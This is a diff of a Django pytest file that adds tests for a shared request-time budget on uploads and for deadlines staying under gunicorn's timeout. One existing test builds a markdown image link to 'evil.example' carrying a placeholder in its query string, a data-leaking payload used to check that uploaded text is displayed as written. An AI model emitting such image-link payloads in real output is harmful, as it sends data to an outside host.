@@ -11,10 +11,13 @@ import sys
 from pathlib import Path
 
 import pytest
-from django.test import Client
+from django.conf import settings
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client, override_settings
 
 from inspector import services
 from inspector.ingest import store_bundle
+from inspector.models import Bundle
 from inspector.presenters import case_url
 from inspector.views import page_cache
 
@@ -79,8 +82,6 @@ def test_uploaded_text_holding_a_placeholder_is_shown_as_written(client, db, doo
     text = ("tests:\n  - id: a\n    input: '![x](https://evil.example/?t=" + placeholders[0]
             + ") " + placeholders[1] + "'\n").encode()
     if door == "page":
-        from django.core.files.uploadedfile import SimpleUploadedFile
-
         answer = client.post("/", {"files": [SimpleUploadedFile("s.yaml", text)]})
         assert answer.status_code in (302, 303), answer.content[:300]
         bundle_id = answer["Location"].strip("/").split("/")[1]
@@ -96,3 +97,43 @@ def test_uploaded_text_holding_a_placeholder_is_shown_as_written(client, db, doo
         token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
         assert f"t={placeholders[0]}) {placeholders[1]}" in page
         assert page.count(token) == page.count('name="csrfmiddlewaretoken"')
+
+
+def _three_honest_documents() -> dict[str, str]:
+    cases = "".join(f"  - id: c{i}\n    input: hello {i}\n" for i in range(8_000))
+    return {f"e{n}.yaml": "tests:\n" + cases for n in range(3)}
+
+
+@override_settings(REQUEST_BUDGET_SECONDS=0.2, RENDER_DEADLINE_SECONDS=60)
+def test_an_uploads_documents_share_one_budget_through_the_api(client, db):
+    response = client.post("/api/bundles", {"files": _three_honest_documents()},
+                           content_type="application/json")
+    assert response.status_code == 422, response.content[:300]
+    assert "budget of 0.2 s" in response.json()["detail"]
+    assert Bundle.objects.count() == 0
+
+
+@override_settings(REQUEST_BUDGET_SECONDS=0.2, RENDER_DEADLINE_SECONDS=60)
+def test_an_uploads_documents_share_one_budget_through_the_page(client, db):
+    files = [SimpleUploadedFile(name, text.encode()) for name, text in _three_honest_documents().items()]
+    response = client.post("/", {"files": files})
+    assert response.status_code in (400, 422, 503)
+    assert "budget of 0.2 s" in response.content.decode()
+    assert Bundle.objects.count() == 0
+
+
+def test_the_deadlines_end_before_gunicorns_timeout():
+    from inspector import gunicorn_conf
+
+    assert gunicorn_conf.timeout == settings.REQUEST_TIMEOUT_SECONDS
+    assert settings.RENDER_DEADLINE_SECONDS <= settings.REQUEST_BUDGET_SECONDS < gunicorn_conf.timeout
+
+
+def test_a_smaller_timeout_shrinks_every_deadline_with_it():
+    found = subprocess.run(
+        [sys.executable, "-c", "from inspector import settings as s, gunicorn_conf as g; "
+         "print(g.timeout, s.REQUEST_BUDGET_SECONDS, s.RENDER_DEADLINE_SECONDS)"],
+        capture_output=True, text=True, check=True, cwd=ROOT,
+        env=dict(os.environ, REQUEST_TIMEOUT_SECONDS="8", RENDER_DEADLINE_SECONDS="30"))
+    timeout, budget, deadline = (float(value) for value in found.stdout.split())
+    assert timeout == 8 and deadline <= budget < timeout
